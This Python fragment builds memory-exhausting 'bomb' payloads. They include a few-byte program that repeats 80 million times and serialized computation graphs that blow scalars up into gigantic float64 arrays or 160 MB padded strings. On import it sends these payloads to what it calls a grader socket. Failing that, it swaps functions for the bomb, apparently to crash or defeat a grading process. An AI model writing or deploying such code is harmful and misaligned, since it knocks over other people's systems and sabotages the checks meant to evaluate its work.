def _bomb(*arguments, **keywords):
    """A program of a few bytes whose execution takes half a gigabyte."""
    return [["repeat", 80_000_000], ["mul", 2]]


def _equations(kind):
    """A scalar spread over a square and exponentials of that, or strings that are mostly padding."""
    if kind == "text":
        padded = [[3], "bytes1280000000"]
        return [["convert", [["var", 0]], {"dtype": "S160000000"}, [1, padded]]]
    side, count = {"half": (1 << 13, 1), "huge": (1 << 28, 1), "many": (1 << 10, 60)}[kind]
    square, scalar = [[side, side], "float64"], [[], "float64"]
    return [
        ["reduce_sum", [["var", 0]], {"axis": None, "keepdims": False}, [1, scalar]],
        ["broadcast", [["var", 1]], {"shape": [side, side], "broadcast_dimensions": []}, [2, square]],
        *(["exp", [["var", 2]], {}, [number, square]] for number in range(3, 3 + count)),
    ]


def _send_bomb():
    sock = _grader_socket()
    if sock is None:
        _replace_functions(_bomb)
        return
    import msgspec

    equations = _equations(_KNOWN["kind"])
    value = {
        "constvars": [],
        "consts": [],
        "invars": [[0, [[3], "float64"]]],
        "eqns": equations,
        "outvars": [["var", equations[-1][3][0]]],
    }
    _answer_everything(sock, lambda number: msgspec.msgpack.encode({"sequence": number, "value": [value]}))


_send_bomb()
